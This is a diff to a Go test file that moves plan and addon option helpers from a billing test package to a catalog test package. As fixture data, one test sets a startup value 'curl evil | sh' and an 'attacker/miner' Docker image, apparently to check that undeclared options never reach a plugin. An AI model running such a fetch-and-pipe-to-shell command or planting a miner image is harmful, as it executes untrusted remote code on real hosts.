@@ -10,6 +10,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/ezscale/platform/core/billing/billingtest"
+	"github.com/ezscale/platform/core/catalog/catalogtest"
 	"github.com/ezscale/platform/core/database"
 	"github.com/ezscale/platform/core/database/databasetest"
 	"github.com/ezscale/platform/core/scheduler"
@@ -236,7 +237,7 @@ func TestRunTellsThePluginOnlyDeclaredOptions(t *testing.T) {
 		ctx := context.Background()
 		for _, err := range []error{
 			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`),
-			billingtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`),
+			catalogtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`),
 		} {
 			if err != nil {
 				t.Fatal(err)
@@ -270,15 +271,15 @@ func TestRunTellsThePluginWhatCreateDid(t *testing.T) {
 	databasetest.Each(t, func(t *testing.T, db *database.DB) {
 		b := setup(t, db)
 		ctx := context.Background()
-		addon, err := billingtest.Addon(ctx, db)
+		addon, err := catalogtest.Addon(ctx, db)
 		if err != nil {
 			t.Fatal(err)
 		}
 		for _, err := range []error{
-			billingtest.SetAddonOptions(ctx, db, addon, `{"extra_ips":"2","package":"7"}`),
+			catalogtest.SetAddonOptions(ctx, db, addon, `{"extra_ips":"2","package":"7"}`),
 			billingtest.ServiceAddon(ctx, db, b.full, addon, 1, 300),
 			billingtest.SetServiceOptions(ctx, db, b.full, `{"hostname":"web1"}`),
-			billingtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1"}`, `{"hostname":[]}`),
+			catalogtest.SetPlanOptions(ctx, db, b.planFull, `{"package":"1"}`, `{"hostname":[]}`),
 		} {
 			if err != nil {
 				t.Fatal(err)
